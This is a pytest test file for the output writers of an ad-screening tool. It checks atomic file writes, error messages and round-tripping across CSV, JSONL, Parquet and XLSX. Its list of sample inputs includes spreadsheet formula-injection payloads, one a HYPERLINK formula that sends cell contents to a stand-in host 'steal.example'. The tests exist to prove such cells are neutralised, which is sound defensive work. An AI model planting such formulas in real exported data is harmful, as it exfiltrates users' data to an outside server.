"""Result files: whole or not at all, and harmless in a spreadsheet."""

import csv
import io
import json
import subprocess

import numpy as np
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest

from adscreen.errors import OutputError, UsageError
from adscreen.scoring import writers
from adscreen.scoring.writers import SUFFIXES, check_output, formula_proof, open_writer

FORMULAS = [
    '=HYPERLINK("http://steal.example/?"&A1,"open")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝１＋１",
    "＠SUM(A1)",
    "- cook wanted",
    "+855 000 123 456",
]
TEXTS = ["plain", "诚聘客服", "مطلوب عمال", 'quote "here", comma', "two\nlines", "it's", "", "🔥"]


def frame_of(texts, risks=None):
    return pd.DataFrame({"ad_id": texts, "risk": risks if risks is not None else [0.5] * len(texts)})


def write(path, *frames):
    with open_writer(str(path)) as writer:
        for frame in frames:
            writer.write(frame)
    return path


def write_and_fail(path, exception):
    with open_writer(str(path)) as writer:
        writer.write(frame_of(TEXTS))
        raise exception


def csv_rows(path):
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def xlsx_rows(path):
    return [list(row) for row in openpyxl.load_workbook(path).active.iter_rows()]


def files_in(folder):
    return sorted(path.name for path in folder.iterdir())


# What stands in the files


def test_csv_comes_back_as_written(tmp_path):
    path = write(tmp_path / "out.csv", frame_of(TEXTS), frame_of(["more"], [np.nan]))
    assert csv_rows(path) == [["ad_id", "risk"], *([text, "0.5"] for text in TEXTS), ["more", ""]]


def test_jsonl_comes_back_as_written_with_null_for_no_risk(tmp_path):
    path = write(tmp_path / "out.jsonl", frame_of(TEXTS + FORMULAS), frame_of(["more"], [np.nan]))
    lines = [json.loads(line) for line in path.read_bytes().decode("utf-8").split("\n")[:-1]]
    assert [line["ad_id"] for line in lines] == [*TEXTS, *FORMULAS, "more"]
    assert lines[0]["risk"] == 0.5
    assert lines[-1] == {"ad_id": "more", "risk": None}
    assert "诚聘客服" in path.read_text(encoding="utf-8")


def test_parquet_comes_back_as_written(tmp_path):
    path = write(tmp_path / "out.parquet", frame_of(TEXTS + FORMULAS), frame_of(["more"], [np.nan]))
    frame = pd.read_parquet(path)
    assert frame["ad_id"].tolist() == [*TEXTS, *FORMULAS, "more"]
    assert frame["risk"].isna().tolist() == [False] * (len(frame) - 1) + [True]


def test_xlsx_comes_back_as_written(tmp_path):
    texts = [text for text in TEXTS if text]
    path = write(tmp_path / "out.xlsx", frame_of(texts), frame_of(["more"], [np.nan]))
    values = [[cell.value for cell in row] for row in xlsx_rows(path)]
    assert values == [["ad_id", "risk"], *([text, 0.5] for text in texts), ["more", None]]


@pytest.mark.parametrize("text", ["a\rb", "\r", "a\r\nb", "a\nb", '"\r"', "a,b\r;c"])
def test_a_line_break_of_any_kind_stays_inside_its_cell(tmp_path, text):
    rows = csv_rows(write(tmp_path / "out.csv", frame_of(["before", text, "after"])))
    assert [row[0].removeprefix("'") for row in rows] == ["ad_id", "before", text, "after"]
    assert [row[1] for row in rows[1:]] == ["0.5"] * 3


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_the_suffix_may_be_in_capitals(tmp_path, suffix):
    assert write(tmp_path / f"out{suffix.upper()}", frame_of(["a"])).stat().st_size > 0


@pytest.mark.parametrize(("first", "second"), [([0.25], [np.nan]), ([np.nan], [0.25]), ([None], [0.25]), ([1], [0.25])])
def test_parquet_has_one_schema_whatever_the_chunks_hold(tmp_path, first, second):
    frames = [frame_of(["a"], pd.array(risks, dtype=float)) for risks in (first, second)]
    alone = pq.read_schema(write(tmp_path / "alone.parquet", frame_of(["a"], [0.5])))
    both = write(tmp_path / "both.parquet", *frames)
    assert pq.read_schema(both) == alone
    assert pd.read_parquet(both)["risk"].tolist()[-1:] == [0.25] or np.isnan(second[0])
    assert len(pd.read_parquet(both)) == 2


def test_a_scorer_gives_every_chunk_the_same_parquet_schema(scorer, tmp_path):
    unscorable = scorer.score(pd.DataFrame({"description": ["hi", ""]}))
    judged = scorer.score(pd.DataFrame({"description": ["Urgent customer service Thailand, free visa, salary 2000"]}))
    nothing = scorer.score(pd.DataFrame({"description": []}))
    assert unscorable["risk"].isna().all()
    assert judged["risk"].notna().all()
    schemas = set()
    for i, frames in enumerate([(unscorable, judged), (judged, unscorable), (nothing, judged, nothing), (nothing,)]):
        path = write(tmp_path / f"{i}.parquet", *frames)
        schemas.add(str(pq.read_schema(path)))
        assert len(pd.read_parquet(path)) == sum(map(len, frames))
    assert len(schemas) == 1


def test_an_empty_chunk_writes_the_header_once(tmp_path):
    for suffix, rows in ((".csv", csv_rows), (".xlsx", xlsx_rows)):
        path = write(tmp_path / f"out{suffix}", frame_of([]), frame_of([]), frame_of(["a"]))
        assert len(rows(path)) == 2


# Spreadsheets


@pytest.mark.parametrize("text", FORMULAS)
def test_a_csv_cell_never_begins_as_a_formula(tmp_path, text):
    path = write(tmp_path / "out.csv", frame_of([text]))
    assert csv_rows(path)[1] == ["'" + text, "0.5"]


@pytest.mark.parametrize("value", ["-5", "+3.5", "-1e9", -5, -0.25, 3, None, "a=b", "'=1", " =1", ""])
def test_what_is_no_formula_stays_as_it_is(value):
    assert formula_proof(value) == value


@pytest.mark.parametrize("text", FORMULAS)
def test_an_xlsx_text_cell_is_text_whatever_it_begins_with(tmp_path, text):
    cell = xlsx_rows(write(tmp_path / "out.xlsx", frame_of([text])))[1][0]
    assert cell.data_type != "f"
    # XML reads a carriage return as a line feed.
    assert cell.value.replace("\r", "\n") == text.replace("\r", "\n")


def test_an_xlsx_number_is_a_number(tmp_path):
    cell = xlsx_rows(write(tmp_path / "out.xlsx", frame_of(["a"], [-0.25])))[1][1]
    assert (cell.data_type, cell.value) == ("n", -0.25)


def test_an_xlsx_cell_is_cut_at_what_excel_can_hold(tmp_path):
    row = xlsx_rows(write(tmp_path / "out.xlsx", frame_of(["x" * 40_000])))[1]
    assert len(row[0].value) == 32_767


def test_characters_that_xlsx_cannot_hold_are_left_out(tmp_path):
    row = xlsx_rows(write(tmp_path / "out.xlsx", frame_of(["no\x00 f\x1fee"])))[1]
    assert row[0].value == "no fee"


def test_more_rows_than_a_sheet_holds_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(writers, "XLSX_MAX_ROWS", 3)  # a million rows would take a minute
    write(tmp_path / "full.xlsx", frame_of(["a"] * 3))
    with pytest.raises(OutputError) as error:
        write(tmp_path / "out.xlsx", frame_of(["a"] * 2), frame_of(["a"] * 2))
    assert str(error.value) == ("-o: an Excel sheet holds 3 rows and there are more. Use -o out.csv or out.parquet.")
    assert files_in(tmp_path) == ["full.xlsx"]


# Whole or not at all


@pytest.mark.filterwarnings("error::pytest.PytestUnraisableExceptionWarning")  # would be noise on the terminal
@pytest.mark.parametrize("suffix", SUFFIXES)
@pytest.mark.parametrize("exception", [ValueError("bad row"), KeyboardInterrupt(), SystemExit(1)])
def test_an_exception_leaves_nothing_behind(tmp_path, suffix, exception):
    with pytest.raises(type(exception)):
        write_and_fail(tmp_path / f"out{suffix}", exception)
    assert files_in(tmp_path) == []


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_the_file_appears_under_its_name_only_when_whole(tmp_path, suffix):
    target = tmp_path / f"out{suffix}"
    with open_writer(str(target)) as writer:
        writer.write(frame_of(TEXTS))
        assert not target.exists()
    assert files_in(tmp_path) == [target.name]


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_an_older_file_stays_until_the_new_one_is_whole(tmp_path, suffix):
    target = write(tmp_path / f"out{suffix}", frame_of(["old"]))
    old = target.read_bytes()
    with pytest.raises(ValueError, match="bad row"):
        write_and_fail(target, ValueError("bad row"))
    assert target.read_bytes() == old
    write(target, frame_of(["new"]))
    assert target.read_bytes() != old


@pytest.fixture
def mounted(tmp_path):
    """Mount a small file system of its own; returns a function that takes the options."""
    folder = tmp_path / "disk"
    folder.mkdir()

    def mount(options):
        try:
            subprocess.run(
                ["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(folder)], check=True, capture_output=True
            )
        except (OSError, subprocess.CalledProcessError) as error:
            pytest.skip(f"a file system of its own cannot be mounted here: {error}")
        return folder

    yield mount
    subprocess.run(["umount", "-l", str(folder)], check=False, capture_output=True)


@pytest.mark.filterwarnings("error::pytest.PytestUnraisableExceptionWarning")  # would be noise on the terminal
@pytest.mark.parametrize("suffix", SUFFIXES)
def test_a_full_disk_is_told_and_leaves_nothing(mounted, suffix):
    disk = mounted("size=64k")
    target = disk / f"out{suffix}"
    noise = np.random.default_rng(0)  # does not deflate
    frame = frame_of([noise.bytes(100).hex() for _ in range(2000)])
    with pytest.raises(OutputError) as error:
        write(target, *[frame] * 3)
    assert str(error.value) == (
        f"-o {target}: the disk is full. Nothing was written under that name. Free some space and run again."
    )
    assert error.value.exit_code == 3
    assert files_in(disk) == []


def test_a_read_only_folder_is_refused_before_any_work(mounted):
    disk = mounted("ro,size=64k")
    with pytest.raises(OutputError) as error:
        check_output(str(disk / "out.csv"))
    assert str(error.value) == (
        f"-o {disk / 'out.csv'}: cannot write to the folder {disk} (Read-only file system). Choose another folder."
    )


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_a_folder_that_goes_away_is_told(tmp_path, suffix):
    target = tmp_path / "gone" / f"out{suffix}"
    with pytest.raises(OutputError) as error:
        write(target, frame_of(["a"]))
    assert str(error.value).startswith(f"-o {target}: cannot be written (")


# The name


@pytest.mark.parametrize("name", ["out", "out.txt", "out.xls", "out.csv.gz", "out.json"])
def test_a_suffix_without_a_format_is_refused(tmp_path, name):
    with pytest.raises(UsageError) as error:
        check_output(str(tmp_path / name))
    assert str(error.value) == (
        f"-o {tmp_path / name}: the suffix says the format; use one of .csv, .jsonl, .parquet, .xlsx, "
        "or - for JSON lines on stdout."
    )
    with pytest.raises(UsageError) as error:
        check_output(str(tmp_path / name), or_folder=True)
    assert str(error.value).endswith("- for JSON lines on stdout, or a folder: end its name in /")


def test_a_folder_as_output_is_refused(tmp_path):
    folder = tmp_path / "out.csv"
    folder.mkdir()
    with pytest.raises(UsageError) as error:
        check_output(str(folder))
    assert str(error.value) == f"-o {folder}: this is a folder; give a file name in it."


def test_a_missing_folder_is_refused_with_the_command_that_makes_it(tmp_path):
    with pytest.raises(OutputError) as error:
        check_output(str(tmp_path / "new" / "out.csv"))
    assert str(error.value) == (
        f"-o {tmp_path / 'new' / 'out.csv'}: the folder {tmp_path / 'new'} does not exist. "
        f"Make it first: mkdir -p {tmp_path / 'new'}"
    )


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_a_good_name_passes_and_leaves_no_trace(tmp_path, suffix):
    check_output(str(tmp_path / f"out{suffix}"))
    check_output("-")
    assert files_in(tmp_path) == []


def test_standard_output_gets_json_lines(capsys):
    with open_writer("-") as writer:
        writer.write(frame_of(["招聘"]))
    assert capsys.readouterr().out == '{"ad_id": "招聘", "risk": 0.5}\n'
